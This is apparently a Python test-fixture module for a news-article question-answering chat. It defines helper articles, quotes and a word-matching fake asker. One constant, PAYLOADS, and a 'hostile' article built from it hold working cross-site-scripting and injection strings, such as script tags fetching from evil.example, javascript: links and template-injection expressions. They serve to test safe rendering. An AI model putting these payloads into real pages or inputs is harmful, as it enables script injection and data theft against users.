"""Articles, one of them hostile, and an asker that ranks their sentences by shared words, for the tests of the chat."""

import math
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from pathlib import Path

from rag.articles import sha256_of
from rag.errors import QuestionError
from rag.pipeline import Examination, Step
from rag.question import QuotesRequest, request_of
from rag.quotes import QuoteList
from rag.retrieve import Sought
from rag.schema import (
    Abstention,
    Answer,
    Article,
    ArticleReference,
    Coverage,
    DisagreeingValue,
    Disagreement,
    Found,
    Highlight,
    Interpretation,
    NextQuestion,
    Question,
    Quote,
    Reason,
    Repetition,
    Scores,
    Sentence,
    Speaker,
    SpokenSentence,
)
from rag.segment import split_sentences
from tests.speech_cases import BRIDGE_SAID, BRIDGE_TEXT, KURSK_SAID, PROSECUTOR, Said, spoken_in

PAYLOADS = (
    "<script>fetch('http://evil.example/script')</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "![x](http://evil.example/x.png)",
    "[a](javascript:alert(1))",
    '<a href="javascript:alert(1)">a</a>',
    "$$\\href{javascript:alert(1)}{a}$$",
    "</div></section></article><h1>out</h1>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<style>*{display:none}</style>",
    '"><iframe src=http://evil.example/frame></iframe>',
    "' onmouseover='alert(1)",
    "`</script><script>alert(1)</script>`",
    "<details open ontoggle=alert(1)>",
    '<link rel=stylesheet href="http://evil.example/a.css">',
    "&lt;b&gt; &amp; &#60;img src=x&#62;",
    "\u202eright to left\u202c",
)


def article(id: str, text: str, title: str, url: str | None = None) -> Article:
    """An article as it would be stored."""
    return Article(id, text, sha256_of(text), title, f"{id}.txt", url=url)


def _seed() -> Article:
    text = (Path(__file__).parents[1] / "corpus" / "000_e152aec2c99f597f.txt").read_text("utf-8")
    return article("seed", text, text.splitlines()[0])


SEED = _seed()
HOSTILE = article(
    "hostile",
    "\n\n".join(f"A harmless note says {payload} and goes on." for payload in PAYLOADS),
    "Notes <script>alert(1)</script> ![x](http://evil.example/title.png)",
    "javascript:alert(1)",
)
TSUKANOV = PROSECUTOR
BRIDGE = replace(
    article("bridge", BRIDGE_TEXT, BRIDGE_TEXT.splitlines()[0]), publisher="The Gazette", published="2025-05-20"
)
SPOKEN: dict[str, Mapping[int, tuple[Said, ...]]] = {"seed": KURSK_SAID, "bridge": BRIDGE_SAID}


def sentences(article: Article) -> tuple[Sentence, ...]:
    """The sentences of an article."""
    return split_sentences(article.text, article.title)


def spoken(article: Article) -> tuple[SpokenSentence, ...]:
    """The sentences of an article, with who speaks in them where a case says so."""
    said = SPOKEN.get(article.id, {})
    return tuple(spoken_in(article.text, sentence, said.get(sentence.number, ())) for sentence in sentences(article))


def quote_with_speech(article: Article, number: int, marked: str = "") -> Quote:
    """The sentence with this number, with who speaks in it."""
    speech = next(found.speech for found in spoken(article) if found.sentence.number == number)
    return replace(
        quote(article, number, marked, speech.speaker),
        speech=speech.kind,
        cue=speech.cue,
        via=speech.via,
        flags=speech.flags,
        said=speech.said,
    )


def quote(article: Article, number: int, marked: str = "", speaker: Speaker | None = None) -> Quote:
    """The sentence with this number, with its highlight and its speaker."""
    found = next(sentence for sentence in sentences(article) if sentence.number == number)
    text = article.text[found.start : found.end]
    place = found.start + text.index(marked)
    return Quote(
        text=text,
        article=_reference(article),
        start=found.start,
        end=found.end,
        sentence=number,
        sentences=max(sentence.number for sentence in sentences(article)),
        highlight=Highlight(place, place + len(marked)) if marked else None,
        speech="direct" if speaker else "none",
        speaker=speaker,
        cue=None,
        via=None,
        dates=(),
        score=0.5,
    )


def _reference(article: Article) -> ArticleReference:
    return ArticleReference(
        article.id, article.title, article.publisher, article.published, article.url, article.sha256
    )


def repetition(article: Article, number: int) -> Repetition:
    """The sentence with this number as a place where a quote is printed again."""
    found = quote(article, number)
    return Repetition(found.article, found.start, found.end, found.sentence, found.sentences)


def speaker(article: Article, name: str, role: str | None = None) -> Speaker:
    """A speaker that the article names."""
    return Speaker(name, role, article.text.index(name), article.text.index(name) + len(name))


def _wire() -> Article:
    evacuated = quote(SEED, 5).text
    before = "This is what the wires told us. Most of it was quiet. Trains were late. Schools stay open."
    title = "The night from our wires"
    wire = article("wire", f"{title}\n\n{before}\n\n{evacuated} It is quiet there again.\n", title)
    return replace(wire, publisher="The Gazette", published="2025-05-20")


WIRE = _wire()  # prints the fifth sentence of the seed article again, as its own fifth


def answered(*quotes: Quote, question: str = "?", disagreements: Sequence[Disagreement] = ()) -> Answer:
    """An answer with these quotes."""
    coverage = Coverage(1, None, None, 1, 1)
    return Answer("a", question, question, "answered", 0.9, quotes, tuple(disagreements), None, coverage, "sha256:0")


def abstained(*near_misses: Quote, question: str = "?", reason: Reason = "not_stated") -> Answer:
    """An abstention with these closest sentences."""
    return replace(
        answered(question=question), status="abstained", confidence=0.1, abstention=Abstention(reason, near_misses)
    )


def two_figures() -> Answer:
    """Quotes of 358 and 288 dead, and their disagreement, the older figure first."""
    newer = quote(SEED, 3, "358", speaker(SEED, "Alexei Tsukanov", TSUKANOV))
    older = quote(SEED, 7, "288", speaker(SEED, "Alexander Khinshtein"))
    figures = (DisagreeingValue(288, "288", 1), DisagreeingValue(358, "358", 0))
    return answered(newer, older, disagreements=[Disagreement("dead", figures)])


def _folded(quotes: Sequence[Quote]) -> list[Quote]:
    """The quotes, of which those with the text of an earlier one become places of it."""
    folded: dict[str, Quote] = {}
    for again in quotes:
        first = folded.setdefault(again.text, again)
        if first is not again:
            place = Repetition(again.article, again.start, again.end, again.sentence, again.sentences)
            folded[again.text] = replace(first, also_in=(*first.also_in, place))
    return list(folded.values())


class WordAsker:
    """Quotes the sentences that share two words with the question, best first; else abstains, the first one closest."""

    same_meaning = (("missing", "unknown"), ("people", "individuals"), ("toll", "civilian"))
    longest = 2000

    def __init__(self, *articles: Article, spoken: Sequence[Quote] = ()) -> None:
        self.stored = {article.id: article for article in articles}
        self.asked: list[Question] = []
        self.spoken = tuple(spoken)

    def ask(self, question: Question) -> Answer:
        """The best sentences of all articles; one that names Tsukanov, or stands before him, is his."""
        self.asked.append(question)
        if len(question.text) > self.longest:
            raise QuestionError(f"The question has {len(question.text):,} characters; ask about one thing.")
        request = request_of(question.text)
        if request:
            listed = self.quotes(request)
            return replace(answered(*listed.quotes, question=question.text), total=listed.total)
        if "break" in question.text:
            raise RuntimeError("broken on purpose")
        words = self._words(question.text)
        found = [
            (len(words & self._words(article.text[sentence.start : sentence.end])), article, sentence.number)
            for article in self.stored.values()
            for sentence in sentences(article)
            if sentence.number
        ]
        best = sorted((hit for hit in found if hit[0] >= 2), key=lambda hit: (-hit[0], hit[2]))
        quotes = _folded(
            [quote(article, number, speaker=self._speaker(article, number)) for _, article, number in best]
        )
        answer = answered(*quotes) if quotes else abstained(quote(found[0][1], 1))
        standalone = f"{question.text} (after: {question.history[-1]})" if question.history else question.text
        return replace(answer, question=question.text, standalone_question=standalone)

    def steps(self, question: Question) -> Iterator[Step]:
        """The question as it stands, every article, and the answer."""
        yield Interpretation(question.text)
        yield Found(len(self.stored), tuple(map(_reference, self.stored.values())))
        answer = self.ask(question)
        yield Examination(answer, Sought(question.text), Scores((), answer.confidence))

    def next_questions(self, answer: str) -> tuple[NextQuestion, ...]:
        """One, whatever was answered."""
        return (NextQuestion("figure", "How many people are missing?"),)

    def quotes(self, request: QuotesRequest) -> QuoteList:
        """A page of all quotes, whoever is asked for."""
        pages, first = math.ceil(len(self.spoken) / request.size), (request.page - 1) * request.size
        return QuoteList(
            speaker=request.speaker,
            about=request.about,
            names=(request.speaker,),
            near=(),
            spoken=len(self.spoken),
            total=len(self.spoken),
            page=request.page,
            pages=pages,
            size=request.size,
            quotes=self.spoken[first : first + request.size],
            empty=None,
        )

    def article(self, id: str) -> Article | None:
        """The stored article."""
        return self.stored.get(id)

    def sentences(self, id: str) -> tuple[SpokenSentence, ...]:
        """Its sentences, with who speaks in them."""
        return spoken(self.stored[id])

    def count_articles(self) -> int:
        """How many there are."""
        return len(self.stored)

    def articles(self) -> Sequence[Article]:
        """All of them."""
        return tuple(self.stored.values())

    def _words(self, text: str) -> set[str]:
        words = set(re.findall(r"\w{4,}", text.lower()))
        return words | {same for word, same in self.same_meaning if word in words}

    def _speaker(self, article: Article, number: int) -> Speaker | None:
        return speaker(article, "Alexei Tsukanov", TSUKANOV) if article is SEED and number in {2, 3} else None
